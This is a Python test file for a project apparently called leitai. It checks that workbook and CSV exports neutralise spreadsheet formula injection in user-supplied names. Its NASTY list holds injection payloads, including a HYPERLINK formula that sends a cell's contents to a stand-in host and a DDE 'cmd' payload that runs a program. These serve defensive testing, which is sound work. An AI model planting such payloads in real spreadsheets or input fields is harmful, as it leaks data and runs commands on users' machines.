"""No export lets a spreadsheet run what somebody typed as a name, a mark or a reason."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import openpyxl
from click.testing import CliRunner

import leitai
from leitai.cli import main
from leitai.ledgers.grid import Grid
from leitai.ledgers.marking import write_marked
from leitai.reports.tables import Column, Table, write_workbook
from web.halls import NOW, Hall

SOURCES = sorted(Path(leitai.__file__).parent.rglob("*.py"))
NASTY = (
    '=HYPERLINK("http://x.example/?"&A1,"see")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)",
    "\t=1+1", "\r=1+1", "{=1+1}", "=1+1\n=2+2",
)  # fmt: skip


def safe(data: bytes) -> list[str]:
    """The texts of a workbook; none of its cells is a formula or a link."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value]
    assert not [cell for cell in cells if cell.data_type == "f" or cell.hyperlink]
    return [str(cell.value) for cell in cells]


def test_no_workbook_is_opened_that_turns_text_into_formulas() -> None:
    """Either the workbook is told not to, or every cell is written as text by its name."""
    careless = []
    for file in SOURCES:
        tree = ast.parse(file.read_text("utf-8"))
        if "xlsxwriter.Workbook" not in (text := ast.unparse(tree)):
            continue
        if '"strings_to_formulas": False' in text or "'strings_to_formulas': False" in text:
            continue
        careless.append(file.name)
    # The marked ledger: checked below, cell by cell.
    assert careless in ([], ["marking.py"])


def test_reports() -> None:
    columns = (Column("=1+1"), Column("@x"))
    rows = tuple((text, text) for text in NASTY)
    texts = safe(write_workbook([Table("=1+1", columns, rows, ("=2+2",))]))
    assert sum(text.lstrip("\t\r").startswith("=") for text in texts) >= 6


def test_marked_ledgers(tmp_path: Path) -> None:
    grid = Grid("a.csv", "=1+1", [[text, text] for text in NASTY])
    write_marked(grid, [], tmp_path / "a.xlsx")
    assert len(safe((tmp_path / "a.xlsx").read_bytes())) >= 2 * len(NASTY)


def test_the_result_of_a_round_with_such_a_name(hall: Hall, client) -> None:
    """Units cannot be called like a formula's start in a cell of the result, yet be announced."""
    from leitai.web.models import Unit

    Unit.objects.filter(pk=hall.slot(1).unit_id).update(zh=NASTY[0], en="+1+1")
    for order in (1, 2, 3):
        hall.advance(order, 3)
        for code in hall.codes["members"]:
            hall.cast(code, order)
        hall.advance(order)
    from leitai.web.actions import results

    results.count(round_id=hall.round.pk, by="organiser", now=NOW)
    answer = client.get(f"/r/{hall.round.key}/result.xlsx")
    assert answer.status_code == 200, answer
    assert any("HYPERLINK" in text for text in safe(answer.content))


def test_the_assignment_of_judges(tmp_path: Path) -> None:
    """The only CSV: names that a spreadsheet would run are told apart by an apostrophe."""
    (tmp_path / "units").write_text("=1+1\n@x\n甲\n乙\n", "utf-8")
    (tmp_path / "judges").write_text("+5\n-6\n丙\n丁\n", "utf-8")
    command = ["design", "--units", str(tmp_path / "units"), "--judges", str(tmp_path / "judges")]
    said = CliRunner().invoke(main, [*command, "--per-unit", "2"])
    assert said.exit_code == 0, said.output
    cells = [cell for row in csv.reader(io.StringIO(said.stdout)) for cell in row]
    assert "'=1+1" in cells and "甲" in cells
    assert not [cell for cell in cells if cell[:1] in set("=+-@\t\r")]
